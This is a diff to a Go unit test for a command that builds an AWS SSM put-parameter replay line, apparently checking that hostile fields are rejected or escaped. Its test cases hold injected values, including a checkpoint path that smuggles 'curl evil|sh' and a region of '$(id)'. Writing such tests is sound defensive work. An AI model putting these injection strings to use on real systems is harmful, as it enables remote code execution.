@@ -289,7 +289,7 @@ func TestReplayCommand(t *testing.T) {
 		"no region":            {func(_ *export.Report, f *Function) { f.Region = "" }, "```aws ssm put-parameter --overwrite --name " + name},
 		"beginning not known":  {func(r *export.Report, _ *Function) { r.From = "" }, ""},
 		"no parameter's name":  {func(_ *export.Report, f *Function) { f.Checkpoint = "" }, ""},
-		"hostile tenant":       {func(_ *export.Report, f *Function) { f.Checkpoint = "/root/a;curl evil|sh/CHECKPOINT" }, ""},
+		"hostile tenant":       {func(_ *export.Report, f *Function) { f.Checkpoint = "/settings/a;curl evil|sh/CHECKPOINT" }, ""},
 		"hostile id":           {func(r *export.Report, _ *Function) { r.From = "1```<!channel>" }, ""},
 		"line break":           {func(r *export.Report, _ *Function) { r.From = "1\n2" }, ""},
 		"hostile region":       {func(_ *export.Report, f *Function) { f.Region = "$(id)" }, "```aws ssm put-parameter --overwrite --name " + name},
